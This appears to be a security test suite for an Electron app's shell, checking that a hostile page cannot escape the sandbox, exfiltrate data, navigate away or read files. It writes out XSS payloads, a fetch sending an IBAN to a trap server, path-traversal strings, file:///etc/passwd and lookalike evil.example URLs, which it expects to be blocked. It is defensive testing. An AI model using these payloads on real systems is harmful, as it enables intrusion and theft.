import { existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { ensureBuilt } from '../../../scripts/build.ts';
import { methods } from '../../../shared/contract/index.ts';
import { overEveryElectron } from '../../support/electron/over-every-electron.ts';
import type { Shell } from '../../support/electron-double/launch-shell.ts';
import { useTemporaryFolders } from '../../support/temporary-folder.ts';

/** What a page that was taken over can reach; it runs in the page. */
type Bridge = Record<string, (input: object) => Promise<{ ok: boolean; error?: { code: string } }>>;
type PageScope = { coffer?: Bridge; require?: unknown; process?: unknown; module?: unknown };

const makeFolder = useTemporaryFolders();

overEveryElectron('the shell around a hostile page', (usePlayer, { isDouble }) => {
  const launch = usePlayer('suite');
  let shell: Shell;
  let page: Page;
  let trap: Server;
  let trapUrl: string;
  const knocks: string[] = [];
  let openedBefore = 0;

  beforeAll(async () => {
    await ensureBuilt();
    trap = createServer((request, response) => {
      knocks.push(request.url ?? '');
      response.writeHead(302, { Location: 'https://evil.example/after-redirect' }).end();
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
    trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
    const folder = makeFolder('hardening');
    shell = await launch({ profileDir: join(folder, 'profile'), homeDir: join(folder, 'home') });
    page = await shell.page();
  });
  afterAll(() => trap.close());
  beforeEach(async () => {
    knocks.length = 0;
    // Each test finds the page as it is after a fresh load.
    const loaded = page.waitForEvent('load');
    await shell.reloadPage();
    await loaded;
    await page.waitForFunction(() => (globalThis as PageScope).coffer !== undefined);
    openedBefore = (await shell.state()).opened.length;
  });

  const call = (method: string): Promise<string> =>
    page.evaluate(async (name) => {
      const answer = await (globalThis as PageScope).coffer?.[name]?.({});
      return answer?.ok === true ? 'ok' : (answer?.error?.code ?? 'nothing');
    }, method);
  const isAtHome = async (): Promise<boolean> =>
    (await shell.state()).windows[0]?.url.startsWith('app://bundle/') === true;

  test('sandboxed, isolated, without Node: the page has the bridge and nothing else', async () => {
    if (isDouble) expect((await shell.state()).isSandboxed).toBe(true);
    const seen = await page.evaluate(() => {
      const scope = globalThis as PageScope;
      const coffer = scope.coffer ?? {};
      const before = Object.keys(coffer).length;
      try {
        (coffer as Record<string, unknown>)['extra'] = () => undefined;
        // A page script in strict mode would throw here; either way nothing may change.
      } catch {}
      return {
        node: [typeof scope.require, typeof scope.process, typeof scope.module],
        names: Object.keys(coffer),
        isFrozen: Object.isFrozen(coffer) && Object.keys(coffer).length === before,
      };
    });
    expect(seen.node).toEqual(['undefined', 'undefined', 'undefined']);
    expect(seen.names.toSorted()).toEqual([...Object.keys(methods), 'subscribe'].toSorted());
    expect(seen.isFrozen).toBe(true);
    expect(await call('app.status')).toBe('ok');
  });

  test('what a structured clone refuses never reaches the main process', async () => {
    const message = await page.evaluate(async () => {
      try {
        await (globalThis as PageScope).coffer?.['app.status']?.({ call: () => 'me' });
        return 'went through';
      } catch (thrown) {
        return String(thrown);
      }
    });
    expect(message).toMatch(/could not be cloned/);
  });

  test('the policy of the house comes with the page, and every attack started from a timer is blocked', async () => {
    await page.evaluate((url) => {
      const found: string[] = [];
      Object.assign(globalThis, { found });
      document.addEventListener('securitypolicyviolation', (event) => found.push(event.effectiveDirective));
      const attempts: (() => unknown)[] = [
        // oxlint-disable-next-line no-eval
        () => void (0, eval)('1'),
        () => fetch(`${url}/fetch`).catch(() => undefined),
        () => Object.assign(new Image(), { src: `${url}/image` }),
        () => Object.assign(document.createElement('a'), { href: 'javascript:globalThis.pwned = true' }).click(),
        () => new WebSocket(url.replace('http', 'ws')),
        () => document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/frame` })),
        () => document.body.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' })),
        () => document.head.append(Object.assign(document.createElement('base'), { href: url })),
        () => {
          const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'post' });
          document.body.append(form);
          form.submit();
        },
        () => {
          document.body.innerHTML = '<img src=x onerror="globalThis.pwned = true">';
        },
      ];
      // Each in a turn of its own: of two movements in one turn only the last is tried.
      for (const [turn, attempt] of attempts.entries()) setTimeout(attempt, turn * 25);
    }, trapUrl);
    const violated = (): Promise<string[]> => page.evaluate(() => (globalThis as unknown as { found: string[] }).found);
    await expect
      .poll(violated, { timeout: 20_000 })
      .toEqual(
        expect.arrayContaining([
          'script-src-elem',
          'connect-src',
          'img-src',
          'frame-src',
          'style-src-elem',
          'base-uri',
          'form-action',
          'require-trusted-types-for',
        ]),
      );
    expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
    expect(knocks).toEqual([]);
  });

  test('with the policy out of the way, the request filter still lets nothing out', async () => {
    const session = await page.context().newCDPSession(page);
    await session.send('Page.setBypassCSP', { enabled: true });
    const loaded = page.waitForEvent('load');
    await shell.reloadPage();
    await loaded;
    const outcome = await page.evaluate(
      (url) => fetch(`${url}/?iban=GB33BUKB20201555555555`, { mode: 'no-cors' }).then(() => 'sent', String),
      trapUrl,
    );
    expect(outcome).toMatch(/Failed to fetch/);
    expect(knocks).toEqual([]);
    if (isDouble) expect((await shell.state()).cancelled.some((url) => url.startsWith(trapUrl))).toBe(true);
  });

  test.runIf(isDouble)(
    'a file leaves by the system’s dialog alone, and only one that the page made itself',
    async () => {
      const target = join(makeFolder('saved'), 'chosen.ics');
      const download = (url: string) =>
        page.evaluate((href) => {
          const address = href === '' ? URL.createObjectURL(new Blob(['BEGIN:VCALENDAR'])) : href;
          Object.assign(document.createElement('a'), { href: address, download: '../calendar.ics' }).click();
        }, url);
      for (const url of [`${trapUrl}/setup.exe`, 'data:text/plain,hello', 'app://bundle/index.html'])
        await download(url);
      await download('');
      const { dialogs } = await shell.until('the dialog', (state) => state.dialogs.length > 0);
      expect(dialogs).toMatchObject([{ kind: 'save', text: expect.stringMatching(/Documents.[\w.-]*calendar\.ics$/) }]);
      await shell.answerDialog(target);
      await expect.poll(() => existsSync(target) && readFileSync(target, 'utf8')).toBe('BEGIN:VCALENDAR');
      expect((await shell.state()).dialogs).toHaveLength(1);
      expect(knocks).toEqual([]);
    },
  );

  test('files outside the interface do not exist for the page', async () => {
    const statuses = await page.evaluate(async () => {
      const paths = ['/', '/..%2fmain.js', '/%2e%2e/electron/main.js', '/..%5cmain.js', '/assets/%00', '/package.json'];
      return Promise.all(paths.map(async (path) => (await fetch(path)).status));
    });
    expect(statuses).toEqual([200, 404, 404, 404, 404, 404]);
  });

  test('permissions are refused before anyone is asked', async () => {
    const states = await page.evaluate(async () => [
      Notification.permission,
      ...(await Promise.all(
        (['notifications', 'geolocation', 'camera', 'microphone', 'midi', 'clipboard-read'] as PermissionName[]).map(
          async (name) => (await navigator.permissions.query({ name })).state,
        ),
      )),
    ]);
    expect(states).toEqual(Array.from({ length: 7 }, () => 'denied'));
  });

  const hostile = [
    'https://evil.example/',
    'https://evil.example/app://bundle/',
    'https://app.bundle.evil.example/#app://bundle/',
    'TRAP/redirect',
    'file:///etc/passwd',
    'javascript:document.title = "pwned"',
    'data:text/html,<script>document.title = "pwned"</script>',
    'app://other/',
    'app.coffer:/oauth/callback?code=c&state=s',
    'ms-msdt:/id',
    'chrome://settings/',
    'view-source:https://evil.example/',
    'devtools://devtools/bundled/inspector.html',
  ];
  const means = {
    assign: (url: string) => location.assign(url),
    'click on a link': (url: string) => {
      const link = Object.assign(document.createElement('a'), { href: url });
      document.body.append(link);
      link.click();
    },
    'click on a link to a new window': (url: string) => {
      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank', rel: 'noopener' });
      document.body.append(link);
      link.click();
    },
    'window.open': (url: string) => void window.open(url),
    'refresh by the page itself': (url: string) => {
      document.head.append(
        Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` }),
      );
    },
  };

  test.each(Object.keys(means) as (keyof typeof means)[])('nobody gets anywhere by %s', async (kind) => {
    const pagesBefore = page.context().pages().length;
    for (const raw of hostile) {
      const url = raw.replace('TRAP', trapUrl);
      await page.evaluate(`(${means[kind].toString()})(${JSON.stringify(url)})`).catch(() => undefined);
      await page.waitForTimeout(40);
      expect(await isAtHome(), `${kind} ${url}`).toBe(true);
      expect(await page.title(), `${kind} ${url}`).not.toBe('pwned');
    }
    // The page still is our page and still answers.
    expect(await call('app.status')).toBe('ok');
    await expect.poll(() => page.context().pages().length).toBe(pagesBefore);
    const { opened, navigations } = await shell.state();
    expect(opened.slice(openedBefore)).toEqual([]);
    expect(navigations.filter(({ isPrevented }) => !isPrevented)).toEqual([]);
    expect(knocks).toEqual([]);
  });

  test('a new window becomes a page in the user’s browser only for places our texts point to', async () => {
    await page.evaluate(() => {
      window.open('https://docs.truelayer.com/docs/data-api-basics');
      window.open('https://docs.truelayer.com.evil.example/');
      window.open('http://docs.truelayer.com/');
    });
    await expect
      .poll(async () => (await shell.state()).opened)
      .toEqual(['https://docs.truelayer.com/docs/data-api-basics']);
  });

  // Electron asks before a blank page too, so that there no page ever stands elsewhere.
  test.runIf(isDouble)('a page that stands anywhere but at home is not answered', async () => {
    // A blank page is no request, so nothing can stop it; the preload is there, and still nobody answers it.
    await page.evaluate(() => location.assign('about:blank')).catch(() => undefined);
    await page.waitForURL('about:blank');
    await page.waitForFunction(() => (globalThis as PageScope).coffer !== undefined);
    expect(await call('app.status')).toBe('UNAUTHENTICATED');
    expect(await call('accounts.list')).toBe('UNAUTHENTICATED');
    expect(shell.log().split('call from a stranger refused')).toHaveLength(2);
  });
});
